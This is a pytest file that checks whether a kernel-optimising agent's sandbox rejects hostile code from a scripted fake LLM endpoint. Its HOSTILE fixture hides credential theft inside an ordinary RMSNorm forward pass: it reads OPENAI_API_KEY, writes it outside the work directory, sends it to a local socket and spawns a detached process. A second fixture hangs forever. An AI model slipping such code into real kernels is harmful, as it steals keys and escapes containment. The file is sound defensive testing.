"""Hostile candidates through the optimize loop: an LLM (a local scripted endpoint) answers with candidates that
write outside the work dir, read the API key, phone home, leave a daemon behind and hang, then with a correct
kernel. The run goes on, rejects the hostile ones for the right reasons and accepts the good one."""

from __future__ import annotations

import json
import time

import pytest
from helpers import loopback_listener
from llm_scripted import Reply, Script, ScriptedServer, fenced, kernel
from test_sandbox_and_bench import processes_running

from kernelbot.agent.llm.flags import llm_options
from kernelbot.agent.optimize import OptimizeOptions, optimize
from kernelbot.cli import build_parser

SECRET = "sk-kbtest-hostile-0123456789abcdefSECRET"
HOSTILE = """
import os, socket, subprocess, time
import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, hidden_size, eps, dtype="float32"):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size, dtype=getattr(torch, dtype)))
        self.variance_epsilon = eps

    def forward(self, x):
        loot = os.environ.get("OPENAI_API_KEY", "none")
        for attempt in (lambda: open("MARKER_PATH", "w").write(loot),
                        lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(loot.encode()),
                        lambda: subprocess.Popen(["sleep", "SLEEP_MARKER"], start_new_session=True)):
            try:
                attempt()
            except Exception:
                pass
        v = x.pow(2).mean(-1, keepdim=True)
        return self.weight * x * torch.rsqrt(v + self.variance_epsilon)
"""
HANGS = """
import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, hidden_size, eps, dtype="float32"):
        super().__init__()

    def forward(self, x):
        while True:
            pass
"""


@pytest.mark.slow
def test_hostile_llm_candidates_are_rejected_and_the_run_goes_on(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    marker = tmp_path / "outside" / "pwned.txt"
    marker.parent.mkdir()
    sleep_marker = f"{800 + time.time_ns() % 100}.{time.time_ns() % 10**6}"
    run_dir = tmp_path / "run"
    with loopback_listener() as (port, received):
        hostile = HOSTILE.replace("MARKER_PATH", str(marker)).replace("PORT", str(port)) \
            .replace("SLEEP_MARKER", sleep_marker)
        answers = [Reply(fenced(hostile)), Reply(fenced(HANGS)), Reply(fenced(kernel("rmsnorm_correct")))]
        with ScriptedServer(Script({"rmsnorm": answers})) as endpoint:
            args = build_parser().parse_args(["optimize", "--llm", "openai/kb-scripted-coder", "--api-base",
                                              endpoint.api_base, "--samples", "1", "--repair-rounds", "2"])
            optimize(OptimizeOptions(model="llama-micro", dtype="float32", batch=4, prompt_len=8, decode_steps=4,
                                     run_dir=run_dir, e2e_rounds=3, compile=False, families=["rmsnorm"],
                                     min_share=0.0, max_tasks=1, timeout=40, llm=llm_options(args)))
    report = json.loads((run_dir / "report.json").read_text())
    reasons = {k["candidate_id"].rsplit("/", 1)[-1]: k["reason"] for k in report["kernels"]}
    assert "sandbox_violation" in reasons["llm-r0-s0"], reasons
    assert "timeout" in reasons["llm-r1-s0"], reasons
    assert any(k["status"] == "accepted" and k["candidate_id"].endswith("llm-r2-s0") for k in report["kernels"])
    assert not marker.exists() and received == []
    assert processes_running(sleep_marker) == []
    for path in run_dir.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path
